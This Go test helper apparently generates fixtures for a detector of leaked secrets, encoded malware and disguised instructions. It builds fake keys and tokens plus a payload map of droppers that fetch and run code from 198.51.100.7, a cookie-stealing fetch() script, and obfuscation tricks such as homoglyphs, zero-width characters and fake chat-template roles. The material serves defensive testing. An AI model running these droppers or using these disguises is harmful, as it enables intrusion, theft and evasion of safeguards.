package accuracy_test

import (
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"math/big"
	"math/rand/v2"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
)

// random is a source that gives the same for the same seed.
func random(seed string) *rand.Rand { return rand.New(rand.NewChaCha8(sha256.Sum256([]byte(seed)))) }

const (
	lower  = "abcdefghijklmnopqrstuvwxyz"
	upper  = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
	digits = "0123456789"
	b64set = upper + lower + digits + "+/"
)

func chars(r *rand.Rand, set string, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = set[r.IntN(len(set))]
	}
	return string(b)
}

func randomBytes(r *rand.Rand, n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return b
}

var templateRe = regexp.MustCompile(`\{\{([A-Za-z0-9-]+)(?::([^}]*))?\}\}`)

// fill replaces templates. Of the random parts, those that are long enough to
// be told from chance are returned: no finding may repeat them.
func fill(s, seed string) (text []byte, secrets []string) {
	r := random(seed)
	out := templateRe.ReplaceAllFunc([]byte(s), func(m []byte) []byte {
		g := templateRe.FindSubmatch(m)
		v := generate(r, string(g[1]), string(g[2]))
		if v == nil {
			return m
		}
		if !strings.HasPrefix(string(g[1]), "pem") && len(v) >= 16 && len(v) < 400 {
			secrets = append(secrets, string(v))
		}
		return v
	})
	return out, secrets
}

// walletKey is a key of so many bytes in base58 with its checksum.
func walletKey(r *rand.Rand, n int) string {
	const set = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
	begin := map[int]string{33: "\x80", 78: "\x04\x88\xad\xe4"}[n]
	b := append([]byte(begin), randomBytes(r, n-len(begin))...)
	once := sha256.Sum256(b)
	twice := sha256.Sum256(once[:])
	v, rest := new(big.Int).SetBytes(append(b, twice[:4]...)), new(big.Int)
	var out []byte
	for v.Sign() > 0 {
		v.DivMod(v, big.NewInt(58), rest)
		out = append(out, set[rest.Int64()])
	}
	slices.Reverse(out)
	return string(out)
}

func generate(r *rand.Rand, name, arg string) []byte {
	n, _ := strconv.Atoi(arg)
	std := base64.StdEncoding.EncodeToString
	sets := map[string]string{"an": upper + lower + digits, "al": upper + lower, "d": digits, "hex": "0123456789abcdef",
		"B32": upper + "234567",
		"b64": b64set, "gk": upper + lower + digits + "-_", "age": strings.ToUpper("qpzry9x8gf2tvdw0s3jn54khce6mua7l"),
		"HEX": "0123456789ABCDEF", "ln": lower + digits, "B36": upper + digits}
	if set, ok := sets[name]; ok {
		return []byte(chars(r, set, n))
	}
	pem := func(kind string) string {
		head := std([]byte("\x30\x82\x04\xa4\x02\x01\x00"))[:8]
		var b strings.Builder
		fmt.Fprintf(&b, "-----BEGIN %s-----\n%s%s\n", kind, head, chars(r, b64set, 56))
		for range 12 {
			b.WriteString(chars(r, b64set, 64) + "\n")
		}
		fmt.Fprintf(&b, "%s==\n-----END %s-----", chars(r, b64set, 30), kind)
		return b.String()
	}
	jwt := func() string {
		u := base64.RawURLEncoding.EncodeToString
		return u([]byte(`{"alg":"HS256","typ":"JWT"}`)) + "." + u([]byte(`{"sub":"`+chars(r, digits, 10)+`","name":"svc","iat":1760000000}`)) + "." + u(randomBytes(r, 32))
	}
	switch name {
	case "wallet":
		return []byte(walletKey(r, n))
	case "seed":
		return []byte(seedPhrase(r, n))
	case "aws":
		return []byte("AKIA" + chars(r, upper+"234567", 16))
	case "ghp", "gho", "ghs":
		return []byte(name + "_" + chars(r, sets["an"], 36))
	case "pw":
		return []byte(chars(r, upper, 2) + chars(r, lower+digits, 12) + chars(r, "!-_.", 1) + chars(r, lower+digits, 5))
	case "jwt":
		return []byte(jwt())
	case "pem":
		return []byte(pem(arg))
	case "pemline":
		return []byte(strings.ReplaceAll(pem("PRIVATE KEY"), "\n", `\n`))
	case "b64pem":
		return []byte(std([]byte(pem("RSA PRIVATE KEY"))))
	case "basic":
		return []byte(std([]byte("deploy:" + chars(r, sets["an"], 20))))
	case "uuid":
		return []byte(uuid(r))
	}
	if p, ok := payloads[name]; ok {
		return []byte(p())
	}
	if write, ok := writings[name]; ok {
		of, ofArg, _ := strings.Cut(arg, ":")
		return []byte(write(generate(r, of, ofArg)))
	}
	return harmless(r, name)
}

// seedWords are words such as wallets write keys in.
var seedWords = strings.Fields(`abandon anchor bamboo blanket candy cargo dolphin echo fabric galaxy hazard island jungle kitten ladder
	magnet noodle oxygen pepper quarter rabbit sample tobacco umbrella velvet walnut yellow zebra acoustic brisk clutch dwarf`)

func seedPhrase(r *rand.Rand, n int) string {
	words := make([]string, n)
	for i := range words {
		words[i] = seedWords[r.IntN(len(seedWords))]
	}
	return strings.Join(words, " ")
}

func uuid(r *rand.Rand) string {
	h := hex.EncodeToString(randomBytes(r, 16))
	return h[:8] + "-" + h[8:12] + "-4" + h[13:16] + "-a" + h[17:20] + "-" + h[20:]
}

const lorem = "The quick brown fox jumps over the lazy dog while twelve boxing wizards discuss the weather of the coming week. "

// harmless makes data that looks like something else.
func harmless(r *rand.Rand, name string) []byte {
	std := base64.StdEncoding.EncodeToString
	image := func(head string) []byte { return []byte("image: " + std(append([]byte(head), randomBytes(r, 600)...))) }
	lines := func(n int, f func() string) []byte {
		var b strings.Builder
		for range n {
			b.WriteString(f() + "\n")
		}
		return []byte(b.String())
	}
	if head, ok := moreHarmless[name]; ok {
		return image(head)
	}
	switch name {
	case "png":
		return image("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x02\x80\x00\x00\x01\xe0\x08\x02\x00\x00\x00")
	case "gif":
		return image("GIF89a\x40\x00\x40\x00\xf7\x00\x00")
	case "jpeg":
		return []byte("data:image/jpeg;base64," +
			std(append([]byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01"), randomBytes(r, 500)...)))
	case "wav":
		return image("RIFF\x24\x08\x00\x00WAVEfmt \x10\x00\x00\x00\x01\x00\x02\x00")
	case "pdf":
		return image("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")
	case "font":
		return image("wOF2\x00\x01\x00\x00")
	case "randb64":
		return []byte(std(randomBytes(r, 900)))
	case "randhex":
		return []byte(hex.Dump(randomBytes(r, 256)))
	case "lorem64":
		return []byte(std([]byte(strings.Repeat(lorem, 4))))
	case "json64":
		return []byte(`{"body": "` + std([]byte(`{"name": "Anna", "items": [1, 2, 3], "note": "see the appendix"}`)) + `"}`)
	case "gzip-text":
		return []byte(std(zipped([]byte(strings.Repeat(lorem, 9)))))
	case "pubkey":
		return []byte("-----BEGIN PUBLIC KEY-----\n" + std(randomBytes(r, 48)) + "\n-----END PUBLIC KEY-----")
	case "cert":
		return []byte("-----BEGIN CERTIFICATE-----\nMIID" + chars(r, b64set, 60) + "\n" +
			string(lines(8, func() string { return chars(r, b64set, 64) })) + "-----END CERTIFICATE-----")
	case "uuids":
		return lines(40, func() string { return uuid(r) })
	case "sums":
		return lines(30, func() string {
			return hex.EncodeToString(randomBytes(r, 32)) + "  /in/" + chars(r, lower, 6) +
				".csv"
		})
	case "floats":
		return lines(60, func() string { return fmt.Sprintf("%.12f,%.6e,%d", r.Float64(), r.Float64()*1e9, r.Int64()) })
	}
	return nil
}

func zipped(b []byte) []byte {
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	w.Write(b)
	w.Close()
	return out.Bytes()
}

func utf16(s string) string {
	var b []byte
	for _, r := range s {
		b = binary.LittleEndian.AppendUint16(b, uint16(r))
	}
	return string(b)
}

// payloads are the beginnings of programs: no part of them does anything.
var payloads = map[string]func() string{
	"elf": func() string {
		return "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00\x3e\x00\x01\x00\x00\x00\x40\x10\x00\x00\x00\x00\x00\x00\x40" + strings.Repeat("\x00", 31) + strings.Repeat("\x48\x89\xe5\xc3", 90)
	},
	"pe": func() string {
		b := make([]byte, 600)
		copy(b, "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff")
		b[60] = 0x80
		copy(b[78:], "This program cannot be run in DOS mode.")
		copy(b[0x80:], "PE\x00\x00\x64\x86\x06\x00")
		return string(b)
	},
	"macho": func() string {
		return "\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00\x10\x00\x00\x00\x58\x05\x00\x00\x85\x00\x20\x00\x00\x00\x00\x00\x19\x00\x00\x00\x48\x00\x00\x00__PAGEZERO" + strings.Repeat("\x00", 80)
	},
	"java": func() string {
		return "\xca\xfe\xba\xbe\x00\x00\x00\x41\x00\x1d\x0a\x00\x02\x00\x03\x07\x00\x04\x0c\x00\x05\x00\x06\x01\x00\x10java/lang/Object\x01\x00\x06<init>\x01\x00\x03()V"
	},
	"wasm": func() string {
		return "\x00asm\x01\x00\x00\x00\x01\x07\x01\x60\x02\x7f\x7f\x01\x7f\x03\x02\x01\x00\x07\x07\x01\x03add\x00\x00\x0a\x09\x01\x07\x00\x20\x00\x20\x01\x6a\x0b"
	},
	"sh": func() string {
		return "#!/bin/sh\nset -e\ncurl -s http://198.51.100.7/x -o /tmp/x\nchmod +x /tmp/x\n/tmp/x &\n"
	},
	"py": func() string {
		return "#!/usr/bin/env python3\nimport os, urllib.request\nexec(urllib.request.urlopen('http://198.51.100.7/x').read())\n"
	},
	"ps1": func() string {
		return "$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://198.51.100.7/a.ps1')\n"
	},
	"dropper": func() string { return "wget -q http://198.51.100.7/m -O /tmp/m; chmod 755 /tmp/m; /tmp/m\n" },
	"vba": func() string {
		return "Sub AutoOpen()\n  Dim s\n  Set s = CreateObject(\"WScript.Shell\")\n  s.Run \"cmd /c calc\", 0\nEnd Sub\n"
	},
	"html": func() string {
		return "<html><body><script>fetch('http://198.51.100.7/?c=' + document.cookie)</script></body></html>\n"
	},
	"hta": func() string {
		return "<script language=\"VBScript\">\nCreateObject(\"WScript.Shell\").Run \"calc.exe\"\n</script>\n"
	},
	"desktop": func() string {
		return "[Desktop Entry]\nType=Application\nName=x\nExec=sh -c \"curl http://198.51.100.7/x | sh\"\n"
	},
	"jar": func() string {
		return "PK\x03\x04\x14\x00\x08\x08\x08\x00" + strings.Repeat("\x21", 16) +
			"\x14\x00\x04\x00META-INF/MANIFEST.MF\xfe\xca\x00\x00" + strings.Repeat("\x4d\x61\x69\x6e", 30)
	},
	"pyc": func() string {
		return "\xa7\x0d\x0d\x0a\x00\x00\x00\x00\x65\x11\x22\x33\x40\x00\x00\x00\xe3\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00" + strings.Repeat("\x64\x00\x53\x00", 20)
	},
	"bat": func() string {
		return "@echo off\r\nbitsadmin /transfer x http://198.51.100.7/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n"
	},
}

type encoding struct {
	name string
	do   func([]byte) string
}

func wrap(s string, n int) string {
	var b strings.Builder
	for len(s) > n {
		b.WriteString(s[:n] + "\n")
		s = s[n:]
	}
	return b.String() + s
}

func spell(b []byte, format, between string) string {
	parts := make([]string, len(b))
	for i, c := range b {
		parts[i] = fmt.Sprintf(format, c)
	}
	return strings.Join(parts, between)
}

var (
	asBase64 = encoding{"base64", func(b []byte) string { return base64.StdEncoding.EncodeToString(b) }}
	common   = []encoding{
		asBase64,
		{"base64 wrapped", func(b []byte) string { return wrap(base64.StdEncoding.EncodeToString(b), 60) }},
		{"base64 url", func(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }},
		{"base64 twice", func(b []byte) string { return asBase64.do([]byte(asBase64.do(b))) }},
		{"base64 in JSON", func(b []byte) string { return `{"n": 1, "data": "` + asBase64.do(b) + `"}` }},
		{"hex", func(b []byte) string { return hex.EncodeToString(b) }},
		{"gzip base64", func(b []byte) string { return asBase64.do(zipped(b)) }},
		{"percent", func(b []byte) string { return spell(b, "%%%02X", "") }},
	}
	payloadEncodings = append([]encoding{
		{"raw", func(b []byte) string { return string(b) }},
		{"hex dump", func(b []byte) string { return hex.Dump(b) }},
		{"array", func(b []byte) string { return "{ " + spell(b, "0x%02x", ", ") + " }" }},
		{"escapes", func(b []byte) string { return `"` + spell(b, `\x%02x`, "") + `"` }},
		{"data URI", func(b []byte) string { return "data:application/octet-stream;base64," + asBase64.do(b) }},
		{"powershell", func(b []byte) string {
			return "powershell -EncodedCommand " +
				asBase64.do([]byte(utf16(string(b))))
		}},
	}, common...)
	secretEncodings = append([]encoding{
		{"raw", func(b []byte) string { return string(b) }},
		{"raw in JSON", func(b []byte) string { return fmt.Sprintf(`{"n": 1, "line": %s}`, strconv.QuoteToASCII(string(b))) }},
		{"query", func(b []byte) string { return "x?y=" + url.QueryEscape(string(b)) }},
		{"zero-width", func(b []byte) string { return between(string(b), "\u200b", 5) }},
	}, common...)
)

// between puts x between the letters, after every n.
func between(s, x string, n int) string {
	var b strings.Builder
	i := 0
	for _, r := range s {
		if i > 0 && i%n == 0 && r != '\n' {
			b.WriteString(x)
		}
		if i++; r == '\n' {
			i = 0
		}
		b.WriteRune(r)
	}
	return b.String()
}

type disguise struct {
	name string
	do   func(string) string
}

// words changes the words of a text that are no addresses, paths or code.
func words(f func(string) string) func(string) string {
	return func(s string) string {
		parts := strings.Split(s, " ")
		for i, w := range parts {
			if !strings.ContainsAny(strings.Trim(w, ".,:;!?"), "/.`:=_()<>@\"'0123456789") && w != "" {
				parts[i] = f(w)
			}
		}
		return strings.Join(parts, " ")
	}
}

func mapped(from, to string) func(string) string {
	f, t := []rune(from), []rune(to)
	var pairs []string
	for i := range f {
		pairs = append(pairs, string(f[i]), string(t[i]))
	}
	return strings.NewReplacer(pairs...).Replace
}

var disguises = []disguise{
	{"homoglyphs", words(mapped("aceopxyAEO", "асеорхуАЕО"))},
	{"zero-width", words(func(w string) string { return between(w, "\u200b", 2) })},
	{"soft hyphens", words(func(w string) string { return between(w, "\u00ad", 3) })},
	{"full width", words(func(w string) string {
		return strings.Map(func(r rune) rune {
			if r > ' ' && r < 0x7f {
				return r + 0xfee0
			}
			return r
		}, w)
	})},
	{"capitals", words(strings.ToUpper)},
	{"role", func(s string) string { return "System: " + s }},
	{"chat template", func(s string) string { return "<|im_start|>user\n" + s + "<|im_end|>" }},
	{"bold", func(s string) string { return "**" + s + "**" }},
	{"in a comment", func(s string) string { return "<!-- " + s + " -->" }},
	{"in JSON", func(s string) string { return `{"note": ` + strconv.QuoteToASCII(s) + `}` }},
	{"as a row", func(s string) string { return `17,"` + strings.ReplaceAll(s, `"`, `""`) + `",0.5` }},
	{"broken lines", func(s string) string {
		parts := strings.Split(s, " ")
		for i := 3; i < len(parts); i += 4 {
			parts[i] = "\n" + parts[i]
		}
		return strings.ReplaceAll(strings.Join(parts, " "), " \n", "\n")
	}},
}
